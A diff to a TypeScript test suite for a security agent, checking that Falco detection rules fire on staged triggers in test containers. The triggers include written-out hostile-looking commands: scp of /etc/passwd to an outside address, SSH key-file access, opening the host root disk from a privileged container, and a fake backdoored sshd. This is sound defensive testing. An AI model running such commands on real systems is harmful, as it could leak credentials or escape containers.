@@ -5,14 +5,14 @@
 // run in the containers so the host is left as it was.
 import { after, before, describe, test } from 'node:test';
 import assert from 'node:assert/strict';
-import { copyFileSync, existsSync, realpathSync, rmSync, symlinkSync } from 'node:fs';
+import { closeSync, copyFileSync, existsSync, openSync, realpathSync, rmSync, statSync, symlinkSync } from 'node:fs';
 import { join } from 'node:path';
 import { randomBytes } from 'node:crypto';
 import { Agent, type Alert } from './helpers/agent.js';
 import { agentMissing, containersMissing, netnsMissing, which } from './helpers/env.js';
 import { RuncContainer } from './helpers/runc.js';
 import { METADATA_ADDRESS, TestHost } from './helpers/netns.js';
-import { PY_NOBODY_ESCALATION, PY_PTRACE_ATTACH, PY_PTRACE_TRACEME, pyMemfdExec, python3, runCommand, scratchDir } from './helpers/triggers.js';
+import { PY_BPF_PROG_LOAD, PY_NOBODY_ESCALATION, PY_PTRACE_ATTACH, PY_PTRACE_TRACEME, pyMemfdExec, pyUdpSend, python3, runCommand, scratchDir } from './helpers/triggers.js';
 import { sharedDir } from '../../src/testing/shared.js';
 
 const FILES = ['falco_rules.yaml', 'falco-incubating_rules.yaml', 'falco-sandbox_rules.yaml'];
@@ -41,6 +41,8 @@ interface World {
 
 interface Trigger {
   rule: string;
+  /** Expected not to fire yet, and why (reported as a todo, not a failure). */
+  todo?: string;
   /** What is done, in the test name. */
   what: string;
   inContainer: boolean;
@@ -55,8 +57,35 @@ const inC = (c: RuncContainer, name: string): Pred => (f) => f['container.id'] =
 const byPid = (pid: number): Pred => (f) => f['proc.pid'] === pid;
 const hostPath = (cmd: string): string => realpathSync(which(cmd)!);
 
-/** A script whose process is named nginx (a script runs under its own file name). */
+/** The block device behind / and whether root on the host may open it at all. */
+function rootDisk(): { major: number; minor: number; openable: boolean } {
+  const dev = statSync('/').dev;
+  const major = (dev >> 8) & 0xfff;
+  const minor = (dev & 0xff) | ((dev >> 12) & 0xfff00);
+  let openable = false;
+  try {
+    closeSync(openSync(`/dev/block/${major}:${minor}`, 'r'));
+    openable = true;
+  } catch {
+    // EPERM (a sandbox's device policy) or no /dev/block entry
+  }
+  return { major, minor, openable };
+}
+
+/** A shell script: its process is named after the script file, so it can play a server. */
 const FAKE_NGINX = (lines: string[]) => `#!/bin/sh\n${lines.join('\n')}\n`;
+
+/** Installs a shell script as `path` in the container. */
+function script(c: RuncContainer, path: string, lines: string[]): void {
+  c.run(['/bin/sh', '-c', `mkdir -p "$(dirname ${path})" && cat > ${path} && chmod 755 ${path}`], { input: FAKE_NGINX(lines) });
+}
+
+/** A program called `name` in the container (busybox behind a link, as renamed tools often are). */
+function tool(c: RuncContainer, name: string): string {
+  const path = `/usr/local/bin/${name}`;
+  c.run(['/bin/sh', '-c', `mkdir -p /usr/local/bin && ln -sf /bin/busybox ${path}`]);
+  return path;
+}
 
 const TRIGGERS: Trigger[] = [
   // ---- in the plain container
@@ -159,6 +188,49 @@ const TRIGGERS: Trigger[] = [
       return inC(plain, 'nc');
     } },
 
+  { rule: 'Read ssh information', what: 'cat /root/.ssh/known_hosts', inContainer: true,
+    act: ({ plain }) => {
+      plain.run(['mkdir', '-p', '/root/.ssh']);
+      plain.run(['touch', '/root/.ssh/known_hosts']);
+      plain.run(['cat', '/root/.ssh/known_hosts']);
+      return inC(plain, 'cat');
+    } },
+  { rule: 'Adding ssh keys to authorized_keys', what: 'touch /root/.ssh/authorized_keys', inContainer: true,
+    act: ({ plain }) => (plain.run(['touch', '/root/.ssh/authorized_keys']), (f) => inC(plain, 'touch')(f) && f['fd.name'] === '/root/.ssh/authorized_keys') },
+  { rule: 'Write below monitored dir', what: '(the same write into /root/.ssh)', inContainer: true,
+    act: ({ plain }) => (f) => inC(plain, 'touch')(f) && f['fd.name'] === '/root/.ssh/authorized_keys' },
+  { rule: 'Update Package Repository', what: 'a new list in /etc/apt/sources.list.d', inContainer: true,
+    act: ({ plain }) => {
+      plain.run(['mkdir', '-p', '/etc/apt/sources.list.d']);
+      plain.run(['touch', '/etc/apt/sources.list.d/extra.list']);
+      return (f) => inC(plain, 'touch')(f) && f['fd.name'] === '/etc/apt/sources.list.d/extra.list';
+    } },
+  { rule: 'DB program spawned process', what: 'a process named postgres starts a program', inContainer: true,
+    act: ({ plain }) => {
+      script(plain, '/usr/lib/postgresql/bin/postgres', ['/bin/true', 'exit 0']);
+      plain.run(['/usr/lib/postgresql/bin/postgres']);
+      return (f) => inC(plain, 'true')(f) && f['proc.pname'] === 'postgres';
+    } },
+  { rule: 'Network Tool Executed During NPM Package Install', what: 'npm (a script) runs nc', inContainer: true,
+    act: ({ plain }) => {
+      script(plain, '/usr/local/bin/npm', ['/usr/bin/nc -w 1 127.0.0.1 9 < /dev/null', 'exit 0']);
+      plain.exec(['/usr/local/bin/npm', 'install']);
+      return (f) => inC(plain, 'nc')(f) && f['proc.pname'] === 'npm';
+    } },
+  { rule: 'Backdoored library loaded into SSHD (CVE-2024-3094)', what: 'a process named sshd reads liblzma.so.5.6.1', inContainer: true,
+    act: ({ plain }) => {
+      plain.run(['touch', '/tmp/liblzma.so.5.6.1']);
+      script(plain, '/usr/sbin/sshd', ['read x < /tmp/liblzma.so.5.6.1', 'exit 0']);
+      plain.exec(['/usr/sbin/sshd']);
+      return inC(plain, 'sshd');
+    } },
+  { rule: 'Sudo Potential Privilege Escalation', what: 'sudo -s with an argument ending in a backslash', inContainer: true,
+    act: ({ plain }) => (plain.exec([tool(plain, 'sudo'), '-s', 'id\\']), inC(plain, 'sudo')) },
+  { rule: 'Kubernetes Client Tool Launched in Container', what: 'kubectl get pods', inContainer: true,
+    act: ({ plain }) => (plain.exec([tool(plain, 'kubectl'), 'get', 'pods']), inC(plain, 'kubectl')) },
+  { rule: 'Launch Remote File Copy Tools in Container', what: 'scp', inContainer: true,
+    act: ({ plain }) => (plain.exec([tool(plain, 'scp'), '/etc/passwd', 'backup@198.51.100.77:']), inC(plain, 'scp')) },
+
   // ---- in the privileged container, inside the test host's network namespace
   { rule: 'Launch Excessively Capable Container', what: 'the privileged container starting', inContainer: true,
     act: ({ priv }) => (f) => f['container.id'] === priv.shortId && f['proc.vpid'] === 1,
@@ -192,6 +264,34 @@ const TRIGGERS: Trigger[] = [
   { rule: 'Detect release_agent File Container Escapes', what: 'write a release_agent file', inContainer: true,
     act: ({ priv }) => (priv.run(['touch', '/tmp/release_agent']), inC(priv, 'touch')) },
 
+  { rule: 'Debugfs Launched in Privileged Container', what: 'debugfs', inContainer: true,
+    act: ({ priv }) => (priv.exec([tool(priv, 'debugfs'), '-R', 'ls']), inC(priv, 'debugfs')) },
+  { rule: 'Privileged Container Device Access', what: "open the host's root disk (no byte read)", inContainer: true,
+    skip: () => (rootDisk().openable ? undefined
+      : "this machine refuses to open block devices even to root on the host (EPERM): no open succeeds for the rule's open_read to see"),
+    act: ({ priv }) => {
+      // The block device of the host's root filesystem, made inside the container under a /dev/vd* name.
+      const { major, minor } = rootDisk();
+      priv.run(['mknod', '/dev/vdz', 'b', String(major), String(minor)]);
+      priv.run(['dd', 'if=/dev/vdz', 'of=/dev/null', 'count=0']);
+      return (f) => inC(priv, 'dd')(f) && f['fd.name'] === '/dev/vdz';
+    } },
+  { rule: 'Container Access to Host Sensitive Paths', what: 'a write below /host', inContainer: true,
+    act: ({ priv }) => {
+      priv.run(['mkdir', '-p', '/host/etc']);
+      priv.run(['touch', '/host/etc/hostname']);
+      return (f) => inC(priv, 'touch')(f) && f['fd.name'] === '/host/etc/hostname';
+    } },
+  // container_started rules read container metadata at the container's first exec; Saker looks
+  // that up in the background (runc state), which answers only once the container exists: at
+  // that exec the metadata is not known yet. Rules reading the thread (capabilities) do fire.
+  { rule: 'Launch Privileged Container', what: 'the privileged container starting', inContainer: true,
+    todo: 'container.privileged is not yet known when the entrypoint starts (metadata arrives asynchronously)',
+    act: ({ priv }) => (f) => f['container.id'] === priv.shortId && f['proc.vpid'] === 1 },
+  { rule: 'Launch Sensitive Mount Container', what: 'a container with /proc mounted, starting', inContainer: true,
+    todo: 'container.mount.dest is not yet known when the entrypoint starts (metadata arrives asynchronously)',
+    act: ({ priv }) => (f) => f['container.id'] === priv.shortId && f['proc.vpid'] === 1 },
+
   // ---- on the host: scratch files, loopback, our namespace
   { rule: 'Read sensitive file untrusted', what: 'cat /etc/shadow on the host', inContainer: false,
     act: () => byPid(runCommand('cat', ['/etc/shadow']).pid),
@@ -222,6 +322,21 @@ const TRIGGERS: Trigger[] = [
   { rule: 'Unprivileged Delegation of Page Faults Handling to a Userspace Process', what: '(nobody trying userfaultfd)', inContainer: false,
     skip: () => skipPython,
     act: () => (f) => f['evt.type'] === 'userfaultfd' && f['user.name'] === 'nobody' },
+  // (busybox's nc here has no -u, so python3 sends the datagram)
+  { rule: 'Unexpected UDP Traffic', what: 'a UDP datagram to the test host, port 9999', inContainer: false,
+    skip: () => skipContainers ?? skipPython,
+    act: ({ host }) => byPid(runCommand(py!, ['-c', pyUdpSend(host.address, 9999)]).pid),
+    check: (f, { host }) => {
+      assert.equal(f['fd.sip'], host.address);
+      assert.equal(f['fd.sport'], 9999);
+    } },
+  { rule: 'BPF Program Not Profiled', what: 'python3 loads a socket filter', inContainer: false, skip: () => skipPython,
+    act: () => byPid(runCommand(py!, ['-c', PY_BPF_PROG_LOAD]).pid) },
+  { rule: 'Disallowed SSH Connection Non Standard Port', what: 'ssh to the test host on port 8443', inContainer: false,
+    skip: () => skipContainers ?? (which('ssh') === undefined ? 'needs an ssh client' : undefined),
+    act: ({ host }) => byPid(runCommand('ssh', ['-p', String(host.port), '-o', 'BatchMode=yes', '-o', 'ConnectTimeout=3',
+      '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', `nobody@${host.address}`, 'true']).pid),
+    check: (f, { host }) => assert.equal(f['fd.sip'], host.address) },
   { rule: 'Launch Suspicious Network Tool on Host', what: 'nc to loopback', inContainer: false,
     act: ({ dir }) => {
       const nc = join(dir, 'nc');
@@ -278,12 +393,12 @@ describe('upstream Falco rules, live', { concurrency: false }, () => {
   });
 
   for (const trig of TRIGGERS) {
-    test(`${trig.rule}: ${trig.what}`, async (t) => {
+    test(`${trig.rule}: ${trig.what}`, { todo: trig.todo }, async (t) => {
       const why = skipAgent ?? (trig.inContainer ? skipContainers : undefined) ?? trig.skip?.();
       if (why !== undefined) return t.skip(why);
       if (world === undefined) return t.skip('the agent did not start (see the before hook)');
       const pred = trig.act(world);
-      const a = await world.agent.waitForRule(trig.rule, pred);
+      const a = await world.agent.waitForRule(trig.rule, pred, { timeoutMs: trig.todo ? 2000 : 10_000 });
       trig.check?.(a.output_fields, world);
       if (trig.inContainer) assert.notEqual(a.output_fields['container.id'], 'host');
       fired.set(trig.rule, trig.inContainer);
